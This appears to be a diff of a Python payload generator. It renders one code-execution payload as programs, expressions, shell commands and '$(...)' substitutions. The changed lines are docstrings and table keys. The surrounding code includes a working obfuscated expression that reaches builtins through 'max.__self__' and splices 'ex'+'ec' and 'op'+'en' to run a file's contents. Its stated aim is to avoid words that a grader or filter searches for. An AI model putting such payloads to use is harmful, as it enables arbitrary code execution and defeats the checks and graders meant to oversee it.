@@ -55,7 +55,7 @@ class Payload:
 
     @property
     def disguised(self) -> str:
-        """An expression without the words that a grader may search for, such as `exec` and `import`."""
+        """An expression without forbidden words such as `exec` and `import`."""
         run = "getattr(b,'ex'+'ec')(f.read(),{})or f.close()"
         return f"[{run} for b in[getattr(max,'_'*2+'self'+'_'*2)]for f in[getattr(b,'op'+'en')({self.file!r})]]"
 
@@ -71,7 +71,7 @@ def write_program(payload: Payload, prompt: str) -> str:
 
 
 def write_disguised_program(payload: Payload, prompt: str) -> str:
-    """Return the same module without the words that a grader may search for."""
+    """Return the same module without words for which a grader may search."""
     return _write_module(payload.disguised, prompt)
 
 
@@ -118,8 +118,8 @@ CODES: dict[str, Write] = {
     "a Python program": write_program,
     "a Python expression": lambda payload, _: payload.expression,
     "a Python expression that needs no built-in function": lambda payload, _: payload.escape,
-    "a Python program without the words that a filter searches for": write_disguised_program,
-    "a Python expression without the words that a filter searches for": lambda payload, _: payload.disguised,
+    "a Python program without usual forbidden words": write_disguised_program,
+    "a Python expression without usual forbidden words": lambda payload, _: payload.disguised,
     "a shell command": lambda payload, _: payload.command,
     "a shell command in a substitution": lambda payload, _: f"$({payload.command})",
 }
